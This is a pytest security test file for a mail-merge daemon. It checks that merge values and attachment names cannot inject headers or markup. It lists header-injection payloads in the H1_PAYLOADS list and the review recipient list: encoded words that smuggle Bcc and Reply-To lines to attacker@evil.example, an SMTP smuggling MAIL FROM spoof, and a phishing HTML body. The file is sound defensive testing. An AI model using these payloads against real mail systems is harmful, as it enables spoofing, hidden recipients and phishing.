"""Hostile merge values and file names (security review 2026-12: H1, M1, M2, L9; issue 15's
header-unsafe values at enqueue with --skip-unsafe).

H1 depends on the interpreter: CPython without the CVE-2024-6923 fix (gh-121650; this
project's .venv is 3.11.7) decodes an RFC 2047 encoded word in a header value and writes a
decoded CR/LF back out raw.  So the fold check is also tested on synthetic output of an
unpatched email package, which makes those tests mean the same on a patched interpreter.
"""

from __future__ import annotations

import email.policy
import re
import subprocess
import sys
from email.parser import BytesParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import relay_server
from mailerd.message.headers import (encoded_word_problem, file_name_problem,
                                     folded_header_problem, merge_value_problem)
from mailerd.message.render import (POLICY, Attachment, Renderer, RenderError, TemplateError, UnsafeValue,
                                    needs_smtputf8)
from mailerd.message.rowcheck import RowCheck
from mailerd.schema.control import CampaignSpec, ListCampaigns
from test_messages import MINIMAL, parse, text_of, write_campaign

DATE = "Tue, 01 Dec 2026 10:28:53 +0000"
SENDER = "Example Bank <news@example.org>"

# The review's payloads (H1), each of which broke the header block on 3.11.7.
H1_PAYLOADS = [
    "=?utf-8?q?x=0D=0ABcc:_victim@evil.example?=",
    "=?utf-8?b?eA0KQmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?=",
    "hello =?utf-8?q?x=0D=0AX-Injected:_yes?= yyy",
    "=?utf-8?q?=0D=0A=0D=0A.=0D=0A?=",
    '"=?utf-8?q?a=0D=0Ab?=" <x@y>',
    "=?utf-8?q?x=0D.=0D=0AMAIL_FROM:<spoof@bank.example>=0D=0A?=",  # SMTP smuggling <CR>.<CR><LF>
    "=?utf-8?q?Ann=0D=0ABcc:_attacker@evil.example=0D=0AReply-To:_attacker@evil.example?=",
    "=?utf-7?q?x+AA0ACg-Bcc:_v@evil.example?=",  # UTF-7: CR LF without one "=0D"
    "=?a?q?x =?utf-8?q?=0D=0ABcc:_v@evil.example?=",  # a word starting inside an invalid one
    "=?utf-8?q?a=00b=1B[31m?=",  # NUL and ESC
]

# What an unpatched email package (3.11.7) wrote for those payloads, as the review captured it.
UNPATCHED_FOLDS = [
    b"Subject: Hi x\r\nBcc: victim@evil.example\r\n",
    b"Subject: Hi hello x\r\nX-Injected: yes yyy\r\n",
    b"Subject: Hi \r\n\r\n.\r\n\r\n",
    b'Subject: Hi "a\r\nb" <x@y>\r\n',
    b"Subject: Hi x\r.\r\nMAIL FROM:<spoof@bank.example>\r\n",
    b"Subject: Hi a\x00b\x1b[31m\r\n",
    b"Subject: x\nBcc: y\r\n",
]


def renderer(**overrides) -> Renderer:
    arguments = dict(sender=SENDER, subject="Welcome {{ first_name }}",
                     text="Hi {{ first_name }},\nthanks for signing up.\n",
                     html="<p>Hello {{ first_name }}, thanks for signing up.</p>\n",
                     columns=["first_name"], campaign_uid="u", headers={"X-Tag": "{{ first_name }}"})
    return Renderer(**{**arguments, **overrides})


def header_block(message: bytes) -> bytes:
    return message.split(b"\r\n\r\n", 1)[0]


# ----------------------------------------------------------- H1: the fold check itself

@pytest.mark.parametrize("folded", UNPATCHED_FOLDS)
def test_fold_check_refuses_what_an_unpatched_email_package_writes(folded: bytes) -> None:
    assert folded_header_problem(folded) is not None


@pytest.mark.parametrize("folded", [
    b"Subject: Hi\r\n", b"Subject: a\r\n b\r\n", b"Subject: a\r\n\tb\r\n",
    b"Subject: =?utf-8?q?caf=C3=A9?=\r\n", "Subject: café\r\n".encode(),  # SMTPUTF8
])
def test_fold_check_accepts_proper_folding(folded: bytes) -> None:
    assert folded_header_problem(folded) is None


class UnpatchedHeader(str):
    """A Subject header object (as the policy sees one: a str with a name and fold())
    that folds as CPython < 3.11.10 folds the encoded word: the decoded CR/LF raw.
    Synthetic, so this test means the same on a patched interpreter."""

    name = "Subject"

    def fold(self, *, policy: email.policy.Policy) -> str:
        return "Subject: Hi x\r\nBcc: victim@evil.example\r\n"


def test_the_policy_refuses_unpatched_folding_on_any_interpreter() -> None:
    header = UnpatchedHeader("Hi =?utf-8?q?x=0D=0ABcc:_victim@evil.example?=")
    with pytest.raises(ValueError, match="would start a new header"):
        POLICY.fold_binary("Subject", header)
    with pytest.raises(ValueError, match="would start a new header"):
        POLICY.clone(utf8=True).fold_binary("Subject", header)


@pytest.mark.parametrize("payload", H1_PAYLOADS)
def test_this_interpreters_email_package_through_the_policy_never_yields_an_unsafe_line(payload) -> None:
    """Without the renderer's value check: on 3.11.7 the policy's own fold check refuses
    what the email package folded; on a patched interpreter the fold is safe."""
    _, header = POLICY.header_store_parse("Subject", f"Hi {payload}")
    try:
        folded = POLICY.fold_binary("Subject", header)
    except ValueError:
        return
    assert folded_header_problem(folded) is None


def test_h1_is_exercised_here_the_plain_email_package_is_unpatched() -> None:
    """Documents the premise: this interpreter's own email package is vulnerable."""
    plain = email.policy.SMTP
    folded = plain.fold_binary("Subject", plain.header_factory("Subject", H1_PAYLOADS[0]))
    if b"\r\nBcc:" not in folded:
        pytest.skip(f"{sys.version.split()[0]} has the CVE-2024-6923 fix")
    assert folded_header_problem(folded) is not None


# ----------------------------------------------------------- H1: the renderer

@pytest.mark.parametrize("payload", H1_PAYLOADS)
@pytest.mark.parametrize("smtputf8", [False, True])
def test_encoded_words_that_decode_to_controls_are_refused_by_the_renderer(payload, smtputf8) -> None:
    with pytest.raises(RenderError, match="^(subject|headers.X-Tag): .*(RFC 2047|control)"):
        renderer().render(line=1, email="victim1@example.com", fields=[payload], date=DATE,
                          smtputf8=smtputf8)


@pytest.mark.parametrize("value", [
    "=?utf-8?q?caf=C3=A9?=", "=?utf-8?q?tab=09here?=", "a =? b ?= c", "=?x?q?unclosed", "=?", "?=",
])
def test_harmless_encoded_words_still_render(value) -> None:
    assert encoded_word_problem(value) is None
    out = renderer().render(line=1, email="a@example.com", fields=[value], date=DATE)
    headers = BytesParser(policy=email.policy.default).parsebytes(out).keys()
    assert headers.count("X-Tag") == 1 and "Bcc" not in headers


def test_an_encoded_word_split_over_two_columns_is_refused_naming_both() -> None:
    spec = CampaignSpec(name="n", sender=SENDER, subject="Hi {{ a }}{{ b }}", text="t",
                        columns=["email", "a", "b"])
    problem = RowCheck(spec).problem("v@example.com", ["=?utf-8?q?x=0D", "=0ABcc:_v@evil.example?="])
    assert problem is not None and problem.column == "a, b" and "subject" in problem.why


def test_an_encoded_word_in_the_address_is_refused_naming_the_email_column() -> None:
    spec = CampaignSpec(name="n", sender=SENDER, subject="Hi", text="t", columns=["email"])
    problem = RowCheck(spec).problem("=?utf-8?q?=0D=0ABcc:_v?=@example.com", [])
    assert problem is not None and problem.column == "email" and "decodes to control" in problem.why


def test_row_check_names_the_column_and_why() -> None:
    spec = CampaignSpec(name="n", sender=SENDER, subject="Welcome {{ first_name }}",
                        text="Hi {{ first_name }} from {{ city }}", columns=["email", "first_name", "city"])
    check = RowCheck(spec)
    assert check.problem("v@example.com", ["Ann", "Paris"]) is None
    problem = check.problem("v@example.com", [H1_PAYLOADS[0], "Paris"])
    assert problem.column == "first_name" and "decodes to control character '\\r' (CR)" in problem.why
    problem = check.problem("v@example.com", ["Ann", "Pa\x1b[2Jris"])
    assert problem.column == "city" and "'\\x1b' (ESC)" in problem.why


# ----------------------------------------------------------- M1, M2, L9 offline

SIGNUP_LINK = '<a href="https://evil.example/login">Verify your account</a>'


def test_html_bodies_escape_merge_values_text_bodies_do_not() -> None:
    message = parse(renderer().render(line=1, email="a@example.com", fields=[SIGNUP_LINK], date=DATE))
    html = text_of(message.get_body(("html",)))
    assert "<a href" not in html
    assert html == ("<p>Hello &lt;a href=&#34;https://evil.example/login&#34;&gt;Verify your account"
                    "&lt;/a&gt;, thanks for signing up.</p>\n")
    assert text_of(message.get_body(("plain",))).startswith(f"Hi {SIGNUP_LINK},")


def test_safe_marks_trusted_markup() -> None:
    trusted = renderer(html='{% set footer = "<b>Example Bank</b>" %}<p>{{ first_name }}</p>{{ footer|safe }}\n')
    message = parse(trusted.render(line=1, email="a@example.com", fields=["<i>Ann</i>"], date=DATE))
    assert text_of(message.get_body(("html",))) == "<p>&lt;i&gt;Ann&lt;/i&gt;</p><b>Example Bank</b>\n"


@pytest.mark.parametrize("char", ["\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x00", "\t", "\x1b", "\x7f",
                                  "\x85", "\u2028", "\u2029"])
def test_attachment_names_with_controls_are_refused_not_a_worker_crash(char) -> None:
    name = f"rep{char}ort.txt"
    assert file_name_problem(name) is not None
    with pytest.raises(TemplateError, match=r"^attachments\[0\] .*control character"):
        renderer(attachments=[Attachment(name, "text/plain", b"hello\n")])


@pytest.mark.parametrize("value", ["a\x00b\x1b[31mc", "bell\x07", "vt\x0b", "del\x7f"])
def test_c0_controls_never_reach_a_body(value) -> None:
    body_only = renderer(subject="Hello", headers={})
    with pytest.raises(UnsafeValue, match="^column 'first_name': control character") as caught:
        body_only.render(line=1, email="a@example.com", fields=[value], date=DATE)
    assert caught.value.column == "first_name"


def test_tab_and_line_breaks_stay_allowed_in_bodies() -> None:
    value = "Flat 3\tFloor 2\r\nMain Street 1\nSpringfield"
    assert merge_value_problem(value) is None
    body_only = renderer(subject="Hello", headers={})
    message = parse(body_only.render(line=1, email="a@example.com", fields=[value], date=DATE))
    assert "Flat 3\tFloor 2\nMain Street 1\nSpringfield" in text_of(message.get_body(("plain",)))


# ----------------------------------------------------------- property

FRAGMENTS = ["=?", "?=", "utf-8", "utf-7", "?q?", "?Q?", "?b?", "=0D", "=0A", "=0d", "=00", "=1B", "_",
             "Bcc:", " ", "\t", "x", "=?utf-8?q?", "=?utf-8?b?", "eA0K", "DQo=", "+AA0-", '"', "<", ">",
             "@", "é", "\r", "\n", "\x00", "\x1b", "\u2028", ".", "=?iso-8859-1?q?"]
hostile_values = st.one_of(
    st.text(max_size=60),
    st.lists(st.sampled_from(FRAGMENTS), max_size=20).map("".join),
    st.sampled_from(H1_PAYLOADS),
)
HEADERS_DECLARED = ["From", "To", "Subject", "Date", "Message-ID", "X-Tag", "MIME-Version", "Content-Type"]


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(hostile_values, hostile_values, st.sampled_from(["v@example.com", "vé@example.com"]))
def test_any_merge_values_leave_the_declared_headers_and_bodies_alone(first_name, city, to) -> None:
    """For any merge values: enqueue's row check refuses the row, or the message renders
    (never the one without the other), its header block parses back to exactly the
    headers the template declared, and the bodies are the templates' output."""
    spec = CampaignSpec(name="n", sender=SENDER, subject="Welcome {{ first_name }}",
                        text="Hi {{ first_name }} from {{ city }}\n", html="<p>{{ city }}</p>\n",
                        headers={"X-Tag": "{{ first_name }} {{ city }}"},
                        columns=["email", "first_name", "city"])
    fields = [first_name, city]
    problem = RowCheck(spec).problem(to, fields)
    try:  # as a worker renders: SMTPUTF8 (UTF-8 headers by the email package) for "vé@"
        out = Renderer.from_spec(spec, "u").render(line=1, email=to, fields=fields, date=DATE,
                                                   smtputf8=needs_smtputf8(to, SENDER))
    except RenderError as exc:
        assert problem is not None, f"render failed but enqueue would have taken the row: {exc}"
        return
    assert problem is None, f"enqueue refuses a row that renders: {problem}"
    message = BytesParser(policy=email.policy.default).parsebytes(out)
    assert message.keys() == HEADERS_DECLARED
    for line in header_block(out).split(b"\r\n"):
        assert line[:1] in b" \t" or line.split(b":", 1)[0].decode() in HEADERS_DECLARED
    plain, html = message.get_body(("plain",)), message.get_body(("html",))
    expected_text = re.sub(r"\r\n|\r", "\n", f"Hi {first_name} from {city}\n")
    assert text_of(plain) == expected_text
    assert [p.get_content_type() for p in message.iter_parts()] == ["text/plain", "text/html"]
    assert "<p>" in text_of(html) and "<" not in text_of(html)[3:-5]  # the value is escaped


# ----------------------------------------------------------- through the daemon

REVIEW_LIST = [
    "email,first_name",
    "victim1@example.com,=?utf-8?q?Ann=0D=0ABcc:_attacker@evil.example=0D=0AReply-To:_attacker@evil.example?=",
    'victim2@example.com,"=?utf-8?q?x=0D=0AContent-Type:_text/html=0D=0A=0D=0A<h1>Your_account_is_locked'
    '</h1><a_href=3D""https://evil.example/login"">Unlock_now</a>=0D=0A=0D=0A?="',
    "carol@example.com,Carol",
    "dave@example.com,Da\x00ve\x1b[31m",
]
REVIEW_CAMPAIGN = ['name = "Welcome"', 'from = "Example Bank <news@example.org>"',
                   'subject = "Welcome {{ first_name }}"', 'text = "t.txt"', 'html = "h.html"']
REVIEW_BODIES = {"t.txt": "Hi {{ first_name }},\nthanks for signing up.\n",
                 "h.html": "<p>Hello {{ first_name }}, thanks for signing up.</p>\n"}


def test_enqueue_refuses_unsafe_merge_values_naming_row_and_column(tmp_path, relay_factory, daemon_factory):
    relay = relay_factory()
    daemon = daemon_factory({"isp": relay_server(relay)}).start()
    campaign, recipients = write_campaign(tmp_path / "c", REVIEW_CAMPAIGN, REVIEW_LIST, REVIEW_BODIES)
    result = daemon.ctl("enqueue", str(campaign), "--recipients", str(recipients), check=False)
    assert result.returncode == 1, result
    assert "Traceback" not in result.stderr
    assert "line 2: column 'first_name'" in result.stderr
    assert "decodes to control character '\\r' (CR)" in result.stderr and "--skip-unsafe" in result.stderr
    assert daemon.call(ListCampaigns()).campaigns == []  # nothing kept, so nothing can be sent
    daemon.log_line("enqueue_abandoned")
    assert relay.messages() == []


def test_skip_unsafe_drops_those_rows_and_the_relay_gets_intact_messages(tmp_path, relay_factory,
                                                                         daemon_factory):
    relay = relay_factory()
    daemon = daemon_factory({"isp": relay_server(relay)}).start()
    campaign, recipients = write_campaign(tmp_path / "c", REVIEW_CAMPAIGN,
                                          REVIEW_LIST + [f"x{i}@example.com,X{i}" for i in range(3)],
                                          REVIEW_BODIES)
    result = daemon.ctl("enqueue", str(campaign), "--recipients", str(recipients), "--skip-unsafe")
    cid = int(result.stdout)
    assert "3 rows have unsafe merge values" in result.stderr
    report = daemon.wait_done(cid)
    assert (report.counts.sent, report.counts.invalid, report.counts.failed) == (4, 3, 0)
    invalid = {r.email: (r.line, r.reply) for r in daemon.report(cid, "invalid").recipients}
    assert set(invalid) == {"victim1@example.com", "victim2@example.com", "dave@example.com"}
    assert all("unsafe merge value: column 'first_name'" in reply for _, reply in invalid.values())
    assert "'\\x00' (NUL)" in invalid["dave@example.com"][1]
    got = {r.rcpt: r.data for r in relay.messages()}
    assert sorted(got) == ["carol@example.com", "x0@example.com", "x1@example.com", "x2@example.com"]
    for rcpt, data in got.items():
        message = parse(data)
        assert "Bcc" not in message and "Reply-To" not in message and b"evil.example" not in data
        assert message.get_content_type() == "multipart/alternative"
        name = "Carol" if rcpt.startswith("carol") else rcpt[:2].upper()
        assert message["Subject"] == f"Welcome {name}"
        assert text_of(message.get_body(("plain",))) == f"Hi {name},\nthanks for signing up.\n"
        assert text_of(message.get_body(("html",))) == f"<p>Hello {name}, thanks for signing up.</p>\n"


def test_html_merge_values_arrive_escaped_at_the_relay(tmp_path, relay_factory, daemon_factory):
    relay = relay_factory()
    daemon = daemon_factory({"isp": relay_server(relay)}).start()
    cid = daemon.enqueue(*write_campaign(tmp_path / "c", REVIEW_CAMPAIGN, [
        "email,first_name", f'ann@example.com,"{SIGNUP_LINK.replace(chr(34), chr(34) * 2)}"'], REVIEW_BODIES))
    daemon.wait_done(cid)
    [got] = relay.messages()
    message = parse(got.data)
    html = text_of(message.get_body(("html",)))
    assert "<a " not in html and "&lt;a href=&#34;https://evil.example/login&#34;&gt;" in html
    assert SIGNUP_LINK in text_of(message.get_body(("plain",)))


def test_attachment_name_with_a_control_is_refused_everywhere(tmp_path, relay_factory, daemon_factory):
    relay = relay_factory()
    daemon = daemon_factory({"isp": relay_server(relay)}).start()
    campaign, recipients = write_campaign(
        tmp_path / "c", MINIMAL + ['attachments = ["rep\\u000bort.txt"]'],
        ["email", "a@example.com"], {"t.txt": "t\n", "rep\x0bort.txt": "hello\n"})
    enqueue = daemon.ctl("enqueue", str(campaign), "--recipients", str(recipients), check=False)
    preview = subprocess.run([sys.executable, "-m", "mailerctl", "preview", str(campaign),
                              "--recipients", str(recipients)], capture_output=True, text=True, timeout=60)
    test_send = daemon.ctl("test-send", str(campaign), "--to", "me@example.com", check=False)
    for result, code in ((enqueue, 1), (preview, 2), (test_send, 2)):
        assert result.returncode == code, result
        assert "Traceback" not in result.stderr
        assert "attachments[0] ('rep\\x0bort.txt'): control character '\\x0b' (VT)" in result.stderr
    assert daemon.call(ListCampaigns()).campaigns == [] and relay.messages() == []
